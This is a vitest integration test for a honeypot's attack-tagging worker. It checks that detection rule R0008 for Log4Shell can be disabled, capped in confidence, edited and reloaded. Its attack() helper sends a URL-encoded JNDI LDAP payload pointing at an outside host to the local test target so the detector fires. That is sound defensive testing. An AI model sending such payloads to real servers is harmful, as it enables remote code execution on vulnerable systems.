import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'
import type { TechniqueTag, TtpRuleDetail, TtpRules } from '@decnet/contracts/api'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { manifests } from '../apps/server/src/workers/manifests.ts'
import { decnet } from './rig/cli.ts'
import { type Fleet, ROOT, startFleet } from './rig/fleet.ts'
import { httpGet } from './rig/http-get.ts'
import { openStream } from './rig/stream.ts'

const SOON = { timeout: 30_000, interval: 100 }
/** Log4Shell in the address. */
const RULE = 'R0008'

describe.each([
  ['told of over a bus', 'true'],
  ['without a bus', 'false'],
])('a rule in the hands of an operator, recognised by another process than the one that is asked, %s', (_how, enabled) => {
  const hears = enabled === 'true'
  const env = { DECNET_BUS_ENABLED: enabled }
  let fleet: Fleet
  let tagger: ReturnType<typeof spawn>
  beforeAll(async () => {
    const others = manifests.flatMap(({ name, definition }) => (definition && name !== 'ttp-tagger' ? [name] : []))
    fleet = await startFleet({ env: { ...env, DECNET_WORKERS: others.join(',') } })
    tagger = spawn(join(ROOT, 'bin', 'decnet'), ['worker', 'ttp-tagger', '--json', '--home', fleet.home], {
      stdio: ['ignore', 'pipe', 'inherit'],
      env: { ...process.env, ...env },
    })
    if (tagger.stdout) await once(tagger.stdout, 'data')
  })
  afterAll(async () => {
    const gone = once(tagger, 'exit')
    tagger.kill('SIGTERM')
    await gone
    await fleet[Symbol.asyncDispose]()
  })

  const decide = async (method: 'POST' | 'DELETE', body?: Record<string, unknown>) => {
    const headers = { authorization: `Bearer ${fleet.token}`, ...(body && { 'content-type': 'application/json' }) }
    const answer = await fetch(`${fleet.api}/ttp/rules/${RULE}/state`, { method, headers, ...(body && { body: JSON.stringify(body) }) })
    expect(answer.status).toBe(200)
  }
  let sent = 0
  const attack = async () => {
    sent += 1
    const { address, port } = fleet.target('http')
    await httpGet(`http://${address}:${port}/${sent}?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D`)
    return `/${sent}?`
  }
  const tags = () => fleet.get<readonly TechniqueTag[]>('/ttp/tags/by-attacker/127.0.0.1/T1190')
  /** How sure it was of a request; null: no tag. */
  const sure = async (request: string): Promise<number | null> =>
    (await tags()).find(({ rule_id, evidence }) => rule_id === RULE && JSON.stringify(evidence).includes(request))?.confidence ?? null

  it('P2: disabled, clipped for a time and enabled again, it is obeyed, and ends by itself when the time is over', async () => {
    const first = await attack()
    await expect.poll(() => sure(first), SOON).toBeGreaterThan(0.9)
    const watching = await openStream(fleet, { query: '?topics=ttp.rule.>' })
    await decide('POST', { state: 'disabled', reason: 'a scanner of our own' })
    const silent = await attack()
    const said = () =>
      !hears || watching.signals.some(({ topic, payload }) => topic === 'ttp.rule.suppressed' && payload.reason === 'disabled')
    await expect.poll(said, SOON).toBe(true)
    // Nobody says when it is through without one.
    if (!hears) await pause(3_000)
    watching.close()
    await decide('POST', { state: 'clipped', confidence_max: 0.4, expires_at: new Date(Date.now() + 5_000).toISOString() })
    const clipped = await attack()
    await expect.poll(() => sure(clipped), SOON).toBe(0.4)
    const state = async () => (await fleet.get<TtpRules>('/ttp/rules')).data.find(({ id }) => id === RULE)?.state
    await expect.poll(state, SOON).toBe('enabled')
    const last = await attack()
    await expect.poll(() => sure(last), SOON).toBeGreaterThan(0.9)
    expect([silent, await sure(silent)]).toEqual([silent, null])
  })

  it('P2: what is decided on the command line is obeyed, and shown', async () => {
    const ask = (...args: string[]) => decnet(['ttp', ...args, '--home', fleet.home, '--json'])
    const { code, stdout } = await ask('clip', RULE.toLowerCase(), '--ceiling', '0.45', '--for', '1h', '--reason', 'noisy')
    expect([code, JSON.parse(stdout)]).toMatchObject([0, { rule_id: RULE, state: 'clipped', confidence_max: 0.45, reason: 'noisy' }])
    const clipped = await attack()
    await expect.poll(() => sure(clipped), SOON).toBe(0.45)
    expect(JSON.parse((await ask('state')).stdout).states).toMatchObject([{ rule_id: RULE, state: 'clipped' }])
    expect((await fleet.get<TtpRules>('/ttp/rules')).data.find(({ id }) => id === RULE)).toMatchObject({
      state: 'clipped',
      reason: 'noisy',
    })
    await ask('enable', RULE)
    const free = await attack()
    await expect.poll(() => sure(free), SOON).toBeGreaterThan(0.9)
    expect(JSON.parse((await ask('state')).stdout)).toEqual({ states: [] })
  })

  /** The shipped text with another confidence. */
  const edited = async (confidence: number, version: number) => {
    const { shipped_yaml } = await fleet.get<TtpRuleDetail>(`/ttp/rules/${RULE}`)
    return (shipped_yaml ?? '')
      .replace(/^version: \d+/mu, `version: ${version}`)
      .replace(/confidence: [\d.]+/u, `confidence: ${confidence}`)
  }
  /** What was told of the rule while something was done, once the other process has obeyed: a second later it has. */
  async function obeyed(act: () => unknown, confidence: number) {
    const watching = await openStream(fleet, { query: `?topics=ttp.rule.reloaded.${RULE}` })
    await act()
    await pause(1_000)
    const request = await attack()
    await expect.poll(() => sure(request), SOON).toBe(confidence)
    await expect.poll(() => watching.signals.length > 0 || !hears, SOON).toBe(true)
    // Whoever would say it again has looked by then.
    await pause(700)
    watching.close()
    return hears ? watching.signals.map(({ payload }) => payload.rule_version) : null
  }
  const told = (version: number) => (hears ? [version] : null)
  const text = async (method: 'PUT' | 'DELETE', body?: Record<string, unknown>) => {
    const headers = { authorization: `Bearer ${fleet.token}`, ...(body && { 'content-type': 'application/json' }) }
    const answer = await fetch(`${fleet.api}/ttp/rules/${RULE}`, { method, headers, ...(body && { body: JSON.stringify(body) }) })
    expect(answer.ok).toBe(true)
  }

  it('P2: a text that is saved over the API, a file that is saved in the folder, and each taken back: obeyed within a second, told of once', async () => {
    const folder = join(fleet.home, 'rules')
    const file = join(folder, `${RULE}-ours.yaml`)
    const [first, second] = [await edited(0.61, 61), await edited(0.62, 62)]
    mkdirSync(folder)
    expect(await obeyed(() => writeFileSync(file, first), 0.61)).toEqual(told(61))
    expect(await obeyed(() => text('PUT', { yaml: second }), 0.62)).toEqual(told(62))
    expect(await obeyed(() => text('DELETE'), 0.61)).toEqual(told(61))
    writeFileSync(file, `${first}\nversoin: 2\n`)
    const state = async () => (await fleet.get<TtpRules>('/ttp/rules')).data.find(({ id }) => id === RULE)
    await expect
      .poll(state, SOON)
      .toMatchObject({ version: 61, origin: 'folder', problem: { path: file, message: expect.stringContaining('versoin') } })
    const meanwhile = await attack()
    await expect.poll(() => sure(meanwhile), SOON).toBe(0.61)
    const { stderr } = await decnet(['ttp', 'rules', '--home', fleet.home])
    expect(stderr).toContain(`${file}:`)
    const shipped = await fleet
      .get<TtpRuleDetail>(`/ttp/rules/${RULE}`)
      .then(({ shipped_yaml }) => /^version: (\d+)/mu.exec(shipped_yaml ?? '')?.[1])
    expect(await obeyed(() => rmSync(file), 0.95)).toEqual(told(Number(shipped)))
  })
})
